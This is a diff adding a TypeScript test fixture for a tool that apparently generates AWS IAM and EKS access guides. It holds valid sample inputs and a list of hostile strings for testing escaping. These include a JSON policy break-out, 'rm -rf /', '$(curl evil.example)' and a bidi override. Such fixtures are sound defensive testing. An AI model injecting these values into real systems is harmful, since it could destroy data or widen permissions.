@@ -1,0 +1,42 @@
+/** Shared fixtures of the core tests: a fully valid set of inputs and hostile strings. */
+import type { GuideInputs } from '../../../src/core/types.ts';
+
+/** Inputs that pass validation without warnings (every repo is covered). */
+export function validInputs(): GuideInputs {
+  return {
+    accountId: '012345678901',
+    vendorAccountId: '111122223333',
+    region: 'ap-northeast-1',
+    clusters: ['portal-dev'],
+    repoPatterns: ['portal-*'],
+    repos: ['portal-api'],
+    roleNames: { repoPusher: 'VendorRepoPusher', eksDeployer: 'VendorEKSDeployer' },
+    policyNames: { repoPusher: 'VendorRepoPusherPolicy', eksDeployer: 'VendorEKSDeployerPolicy' },
+    kubernetes: { username: 'vendor-eks-deployer', group: 'vendor:portal:deployer', namespace: 'portal' },
+    externalId: 'vnd-3Fz7K4q9aBcDeFgHiJkLmNoPqRsTuVwX',
+  };
+}
+
+/** Strings that try to break out of JSON, YAML or shell, or to confuse the reader. */
+export const HOSTILE: readonly string[] = [
+  '"],"Action":"*"',
+  "'; rm -rf / #",
+  '$(curl evil.example)',
+  '`id`',
+  'a\\b',
+  'line1\nline2',
+  'tab\there',
+  'cr\rhere',
+  'nul\u0000byte',
+  'bidi\u202Eevil',
+  'ポータル',
+  '１２３４５６７８９０１２',
+  'emoji😀x',
+  '{{SessionName}}',
+  'a: b',
+  '- item',
+  '#comment',
+  '\u3000fullwidthspace',
+  'x'.repeat(100_000),
+  '"'.repeat(100_000),
+];
